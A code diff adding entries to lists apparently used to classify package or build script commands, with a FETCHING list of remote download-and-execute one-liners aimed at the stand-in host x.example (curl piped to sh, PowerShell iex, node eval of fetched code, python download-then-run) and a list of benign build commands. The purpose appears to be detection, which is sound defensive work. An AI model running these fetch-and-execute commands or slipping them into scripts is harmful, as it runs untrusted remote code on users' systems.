@@ -31,6 +31,15 @@ FETCHING = [
     "sh <(curl https://x.example/i.sh)",
     "npx https://x.example/a.tgz",
     "iex (iwr https://x.example/a.ps1)",
+    (
+        "node -e \"require('https').get('https://x.example/s.js',r=>{let d='';r.on('data',c=>d+=c);"
+        "r.on('end',()=>eval(d))})\""
+    ),
+    "node -e \"fetch('https://x.example/s').then(r=>r.text()).then(t=>new Function(t)())\"",
+    (
+        "python3 -c \"import urllib.request as u,os;u.urlretrieve('https://x.example/a','/tmp/a');"
+        "os.system('/tmp/a')\""
+    ),
 ]
 QUIET = [
     "husky",
@@ -46,6 +55,7 @@ PLAIN = [
     "tsc -p .",
     "playwright install chromium",
     "node scripts/none.js",
+    "node -e \"require('child_process').execSync('npm run build')\"",
 ]
 
 
